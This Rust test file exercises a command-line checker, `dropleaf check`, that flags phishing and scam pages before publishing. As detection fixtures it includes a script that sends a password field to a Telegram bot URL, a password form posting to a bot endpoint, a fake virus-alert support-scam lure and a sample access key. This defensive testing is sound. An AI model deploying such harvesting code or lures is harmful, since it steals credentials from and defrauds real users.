//! `dropleaf check FILE…`: checks files without a server.

use crate::harness::{Dropleaf, HARVEST, LEAK, page, zip};
use serde_json::{Value, json};
use std::fs;
use std::io::Write;
use std::path::Path;
use std::process::{Output, Stdio};
use tempfile::TempDir;

struct Bench {
    dir: TempDir,
}

impl Bench {
    fn new() -> Self {
        Self { dir: TempDir::new().unwrap() }
    }

    fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> &Self {
        let path = self.dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
        self
    }

    fn check(&self, args: &[&str]) -> (i32, Value) {
        let args = [&["check", "--json"], args].concat();
        let output = Dropleaf::in_dir(self.dir.path()).run(&args);
        read(&output)
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

fn read(output: &Output) -> (i32, Value) {
    let said = serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|_| panic!("not JSON: {}", String::from_utf8_lossy(&output.stderr)));
    (output.status.code().unwrap(), said)
}

fn files(dir: &Path) -> Vec<String> {
    let mut names: Vec<_> =
        fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

#[test]
fn accepted_is_0_and_refused_is_3_with_the_reasons_as_json() {
    let bench = Bench::new();
    bench.file("good.html", page("Report")).file("bad.html", HARVEST);
    let (code, said) = bench.check(&["good.html"]);
    assert_eq!((code, &said["accepted"], &said["reasons"]), (0, &json!(true), &json!([])));
    assert_eq!(
        said["files"],
        json!([{"file": "good.html", "accepted": true, "reasons": [], "warnings": []}])
    );
    let (code, said) = bench.check(&["good.html", "bad.html"]);
    assert_eq!((code, &said["accepted"]), (3, &json!(false)));
    assert_eq!((&said["files"][0]["accepted"], &said["files"][1]["accepted"]), (&json!(true), &json!(false)));
    assert_eq!(said["reasons"], said["files"][1]["reasons"]);
    let reasons = said["reasons"].as_array().unwrap();
    let sent = reasons.iter().find(|reason| reason["rule"] == "sent-to-other-site").unwrap();
    assert_eq!((&sent["file"], &sent["line"]), (&json!("bad.html"), &json!(3)));
    assert!(sent["why"].is_string() && sent["fix"].is_string());
    assert_eq!(files(bench.path()), ["bad.html", "good.html"], "nothing else is left behind");
}

#[test]
fn every_kind_of_file_is_read_as_what_it_is() {
    let bench = Bench::new();
    let script = "const field = document.querySelector('[type=password]').value;\n\
                  fetch('https://api.telegram.org/bot1:abc/sendMessage?text=' + field);\n";
    bench
        .file("page", HARVEST)
        .file("old.htm", HARVEST)
        .file(
            "wide.html",
            HARVEST.encode_utf16().fold(vec![0xff, 0xfe], |mut wide, unit| {
                wide.extend(unit.to_le_bytes());
                wide
            }),
        )
        .file("site.zip", zip(&[("index.html", &page("Fine")), ("in/login.html", HARVEST)]))
        .file("folder/index.html", page("Fine"))
        .file("folder/in/login.html", HARVEST)
        .file("steal.js", script);
    for (name, place) in [
        ("page", "page"),
        ("old.htm", "old.htm"),
        ("wide.html", "wide.html"),
        ("site.zip", "site.zip/in/login.html"),
        ("folder", "folder/in/login.html"),
        ("steal.js", "steal.js"),
    ] {
        let (code, said) = bench.check(&[name]);
        assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!(place)), "{name}: {said}");
    }
    bench
        .file("notes.md", "# Notes\n\nHello.\n")
        .file("drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg'/>");
    bench.file("data.json", "{}").file("photo.png", b"\x89PNG\r\n\x1a\n\0\x01\x02");
    let (code, said) = bench.check(&["notes.md", "drawing.svg", "data.json", "photo.png"]);
    assert_eq!(code, 0, "{said}");
    assert!(said["files"][3]["warnings"].to_string().contains("are not checked"), "{said}");
}

#[test]
fn file_is_taken_for_what_publishing_takes_it_for() {
    let bench = Bench::new();
    let drawn =
        format!("<svg xmlns='http://www.w3.org/2000/svg'><foreignObject>{HARVEST}</foreignObject></svg>");
    bench.file("page.php", format!("\n{HARVEST}")).file("page.js", HARVEST).file("drawn.svg", drawn);
    bench.file("site.bin", zip(&[("index.html", &page("Fine")), ("login.html", HARVEST)]));
    for (name, place) in [
        ("page.php", "page.php"),
        ("page.js", "page.js"),
        ("drawn.svg", "drawn.svg"),
        ("site.bin", "site.bin/login.html"),
    ] {
        let (code, said) = bench.check(&[name]);
        assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!(place)), "{name}: {said}");
    }
    // A file that is only part of a page is checked, with a warning that it cannot be published alone.
    bench.file("app.js", "let a = 1;").file("data.yaml", "a: b").file("film.mp4", "film");
    let (code, said) = bench.check(&["app.js", "data.yaml", "film.mp4"]);
    assert_eq!(code, 0, "{said}");
    for file in said["files"].as_array().unwrap() {
        assert!(file["warnings"].to_string().contains("cannot be published on its own"), "{file}");
    }
}

#[test]
fn folder_is_checked_as_its_archive_would_be() {
    let bench = Bench::new();
    bench.file("bad/index.html", page("Fine")).file("bad/_dropleaf/gate", "x");
    bench.file("empty/sub/page.html", page("Fine")).file("empty/other.html", page("Fine"));
    for (name, error, said) in
        [("bad", "forbidden_name", "_dropleaf"), ("empty", "missing_index", "no index.html at its root")]
    {
        let (code, answer) = bench.check(&[name]);
        let file = &answer["files"][0];
        assert_eq!((code, &file["accepted"], &file["error"]), (1, &json!(false), &json!(error)), "{answer}");
        assert!(file["error_description"].as_str().unwrap().contains(said), "{answer}");
    }
    // Hidden and system files are ignored, and a single top-level folder is allowed.
    bench.file("good/site/index.html", page("Fine")).file("good/.DS_Store", "x").file("good/.env", "KEY=1");
    bench.file("good/.git/config", "x");
    bench.file("good/site/.well-known/x.txt", "x");
    assert_eq!(bench.check(&["good"]).0, 0);
    bench.file("good/site/in.html", HARVEST);
    let (code, said) = bench.check(&["good"]);
    assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!("good/site/in.html")));
    // A refusal for content takes precedence over a missing index.
    bench.file("empty/other.html", HARVEST);
    assert_eq!(bench.check(&["empty"]).0, 3);
}

#[test]
fn only_what_publishing_would_send_is_checked() {
    let bench = Bench::new();
    bench.file("site/index.html", page("Fine")).file("site/drafts/login.html", HARVEST);
    bench.file("site/old.html", HARVEST).file("secret.html", HARVEST);
    std::os::unix::fs::symlink("../secret.html", bench.path().join("site/out.html")).unwrap();
    assert_eq!(bench.check(&["site"]).0, 3);
    bench.file("site/.gitignore", "drafts/\n").file("site/.dropleafignore", "old.html\n");
    let (code, said) = bench.check(&["site"]);
    assert_eq!(code, 0, "{said}");
    assert_eq!(
        said["files"][0]["warnings"],
        json!(["site/out.html would not be sent: it is a link that leads out of the folder."])
    );
}

#[test]
fn reader_who_has_seen_enough_is_no_fault() {
    let bench = Bench::new();
    bench.file("bad.html", HARVEST);
    let mut command = Dropleaf::in_dir(bench.path()).command(&["check", "--json", "bad.html"]);
    let mut child = command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(3), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn what_cannot_be_read_or_published_is_1_and_named() {
    let bench = Bench::new();
    bench.file("empty.html", " \n").file("broken.zip", "PK\u{3}\u{4}no").file("good.html", page("Fine"));
    bench.file("binary.html", b"<p>a\0b");
    for (name, error) in [
        ("missing.html", "unreadable"),
        ("empty.html", "empty_file"),
        ("broken.zip", "invalid_archive"),
        ("binary.html", "not_text"),
    ] {
        let output = Dropleaf::in_dir(bench.path()).run(&["check", "--json", "good.html", name]);
        let (code, said) = read(&output);
        assert_eq!((code, &said["accepted"]), (1, &json!(false)), "{name}");
        assert_eq!(
            (&said["files"][0]["accepted"], &said["files"][1]["error"]),
            (&json!(true), &json!(error))
        );
        assert!(said["files"][1]["error_description"].is_string());
        assert!(String::from_utf8_lossy(&output.stderr).contains(name));
    }
    // A refusal for content takes precedence over other errors.
    bench.file("bad.html", format!("{HARVEST}\0"));
    assert_eq!(bench.check(&["missing.html", "bad.html"]).0, 3);
    let (code, said) = bench.check(&["--set", "limits.upload_bytes=10", "good.html"]);
    assert_eq!((code, &said["files"][0]["error"]), (1, &json!("too_large")));
}

#[test]
fn page_on_standard_input_is_a_dash() {
    let bench = Bench::new();
    let mut command = Dropleaf::in_dir(bench.path()).command(&["check", "--json", "-"]);
    command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = command.spawn().unwrap();
    child.stdin.take().unwrap().write_all(HARVEST.as_bytes()).unwrap();
    let (code, said) = read(&child.wait_with_output().unwrap());
    assert_eq!((code, &said["reasons"][0]["file"]), (3, &json!("-")));
}

#[test]
fn reasons_name_the_line_of_a_markdown_source_and_of_a_script() {
    let bench = Bench::new();
    let lure = "# Notes\n\nHello.\n\nVirus alert: your computer is infected.\n\n\
                Do not restart. Call support: **1-888-555-0199**\n";
    let script = "// One\n\ndocument.body.innerHTML =\n  '<input type=\"password\">';\n\
                  fetch('https://api.telegram.org/bot1:abc/sendMessage');\n";
    let loads = "<!doctype html><title>Tea</title><p>Hello</p><script src=js/app.js></script>";
    bench.file("lure.md", lure).file("site.zip", zip(&[("index.html", loads), ("js/app.js", script)]));
    let (code, said) = bench.check(&["lure.md"]);
    let first = &said["reasons"][0];
    assert_eq!((code, &first["rule"], &first["line"]), (3, &json!("alarm-call"), &json!(7)), "{said}");
    let (_, said) = bench.check(&["site.zip"]);
    let first = &said["reasons"][0];
    assert_eq!((&first["rule"], &first["line"]), (&json!("sent-to-bot"), &json!(5)), "{said}");
    assert_eq!(first["file"], "site.zip/js/app.js");
}

#[test]
fn secrets_are_said_as_the_settings_or_the_caller_want() {
    let bench = Bench::new();
    bench.file("leak.html", LEAK).file("leak.md", "# Notes\n\nkey: AKIAIOSFODNN7EXAMPLQ\n");
    let (code, said) = bench.check(&["leak.html", "leak.md"]);
    assert_eq!(code, 0);
    assert!(said["files"][0]["warnings"][0].as_str().unwrap().contains("line 2"), "{said}");
    assert_eq!(said["files"][1]["warnings"].as_array().unwrap().len(), 1, "said once: {said}");
    assert!(said["files"][1]["warnings"][0].as_str().unwrap().contains("line 3"), "{said}");
    assert!(!said.to_string().contains("AKIA"));
    let (code, said) = bench.check(&["--pii-check", "block", "leak.html"]);
    assert_eq!((code, &said["reasons"][0]["line"]), (3, &json!(2)));
    assert_eq!(bench.check(&["--set", "safety.pii_check=block", "--pii-check", "off", "leak.html"]).0, 3);
    // Locations use the paths the caller gave, and a refused page also lists its secrets.
    bench.file("sub/both.html", format!("{HARVEST}\n{LEAK}")).file("sub/index.html", LEAK);
    for (name, place) in [("sub/both.html", "sub/both.html, line "), ("sub", "sub/index.html, line 2")] {
        let (code, said) = bench.check(&[name]);
        let warnings = said["files"][0]["warnings"].to_string();
        assert!(code == 3 && warnings.contains(place), "{name}: {said}");
    }
    let (_, said) = bench.check(&["--pii-check", "off", "leak.html"]);
    assert_eq!(said["files"][0]["warnings"], json!([]));
}

#[test]
fn rules_about_destinations_can_be_left_out() {
    let bench = Bench::new();
    let drawn = "<!doctype html><title>Sign in</title><form method=post action=\"https://api.telegram.org/bot1:x/sendMessage\">\
                 <input type=password name=password></form>";
    bench.file("sent.html", drawn);
    assert_eq!(bench.check(&["sent.html"]).0, 3);
    assert_eq!(bench.check(&["--without-destinations", "sent.html"]).0, 0);
}

#[test]
fn a_thousand_files_are_checked_in_one_call() {
    let bench = Bench::new();
    let names: Vec<String> = (0..1000).map(|n| format!("page-{n}.html")).collect();
    for (n, name) in names.iter().enumerate() {
        bench.file(name, if n == 500 { HARVEST.to_owned() } else { page(name) });
    }
    let args: Vec<&str> = names.iter().map(String::as_str).collect();
    let (code, said) = bench.check(&args);
    assert_eq!((code, said["files"].as_array().unwrap().len()), (3, 1000));
    assert!(said["reasons"].as_array().unwrap().iter().all(|reason| reason["file"] == "page-500.html"));
}
